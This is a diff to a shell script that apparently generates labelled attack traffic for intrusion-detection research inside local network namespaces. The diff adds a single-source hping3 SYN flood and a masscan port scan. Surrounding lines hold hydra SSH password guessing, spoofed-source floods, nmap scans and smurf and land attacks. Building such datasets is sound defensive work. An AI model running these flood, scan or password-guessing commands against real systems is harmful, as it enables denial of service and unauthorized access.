@@ -3,7 +3,7 @@
 # network namespaces made here (kdd-atk 10.200.0.1, kdd-srv 10.200.0.2 and .10-.70), captured
 # with tcpdump on the server side. Every flood is bounded by a packet count. Needs root and:
 #   apt-get install hping3 nmap hydra vsftpd nginx dnsmasq opensmtpd swaks busybox-static lftp \
-#                   curl openssl bind9-dnsutils tcpdump iproute2 openssh-server sshpass \
+#                   curl openssl bind9-dnsutils tcpdump iproute2 openssh-server sshpass masscan \
 #                   python3-scapy|pip scapy
 set -euo pipefail
 HERE="$(cd "$(dirname "$0")" && pwd)"
@@ -144,6 +144,10 @@ normal_ssh() { for i in 1 2 3; do
     sleep 1; done; }
 ssh_guess() { in_atk hydra -l alice -P "$WORK/words.txt" -t 4 -W 1 -f "ssh://$S" >/dev/null 2>&1; }
 syn_flood() { in_atk hping3 -S --rand-source -p 80 -i u40 -c 20000 $S 2>/dev/null; }
+syn_flood_one_source() { in_atk hping3 -S -p 80 -i u40 -c 5000 $S 2>/dev/null; }
+masscan_scan() {  # masscan has its own stack: it is told the interface and the next hop's MAC
+    in_atk masscan -p 1-2000 --rate 5000 --wait 2 -e veth-atk --adapter-ip $A \
+        --router-mac "$(in_srv cat /sys/class/net/veth-srv/address)" $S >/dev/null 2>&1; }
 port_scan() { in_atk nmap -n -Pn -sS -T4 -p 1-1000 $S >/dev/null; }
 nmap_scan() { in_atk nmap -n -Pn -T4 "$@" $S >/dev/null; }  # nmap_scan OPTIONS...
 udp_flood() { in_atk hping3 --udp -p 53 -i u100 -c 5000 $S 2>/dev/null; }
@@ -165,7 +169,9 @@ capture normal_smtp normal_smtp
 capture normal_ftp normal_ftp
 capture normal_ftp_active normal_ftp_active
 capture synflood syn_flood
+capture synflood_one_source syn_flood_one_source
 capture portscan port_scan
+capture masscan masscan_scan
 capture icmpsweep icmp_sweep
 capture smurf smurf
 capture land land
